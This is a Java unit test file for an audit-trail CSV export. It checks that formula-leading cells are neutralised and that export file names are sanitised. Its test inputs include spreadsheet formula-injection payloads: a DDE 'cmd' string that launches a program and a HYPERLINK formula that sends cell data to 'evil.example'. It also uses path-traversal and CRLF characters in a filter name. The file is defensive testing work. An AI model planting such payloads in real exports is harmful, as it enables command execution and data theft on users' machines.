package org.imprimatur.audit.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.LocalDate;
import java.util.UUID;
import org.imprimatur.article.ArticleId;
import org.imprimatur.audit.TrailFilter;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvExportTests {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "=cmd|' /C calc'!A0",
                "+49 30",
                "-2+3",
                "@SUM(A1)",
                "\t=1",
                "\r=1",
                "\n=1",
                "=HYPERLINK(\"http://evil.example?\"&A1)"
            })
    void makesTextOfWhatASpreadsheetWouldRun(String cell) {
        assertThat(CsvExport.safe(cell)).isEqualTo("'" + cell);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "Sound.", "38 = 38", "a@b.example", "'already"})
    void leavesTextAsItIs(String cell) {
        assertThat(CsvExport.safe(cell)).isEqualTo(cell);
    }

    @Test
    void namesTheFileByDayAndFilter() {
        var filter =
                new TrailFilter(
                        "Größe \"../\r\n",
                        new ArticleId(UUID.fromString("0197a1b2-0c3d-7e4f-8a9b-1c2d3e4f5a6b")),
                        "ravi",
                        "CLAIMED",
                        LocalDate.of(2026, 3, 1),
                        null);

        assertThat(ExportController.name(LocalDate.of(2026, 3, 31), filter))
                .startsWith("audit-trail-2026-03-31-article-0197a1b2")
                .contains("person-ravi-action-claimed-from-2026-03-01")
                .matches("[a-z0-9-]+")
                .hasSizeLessThan(140);
        assertThat(ExportController.name(LocalDate.of(2026, 3, 31), TrailFilter.ALL))
                .isEqualTo("audit-trail-2026-03-31-all");
    }
}
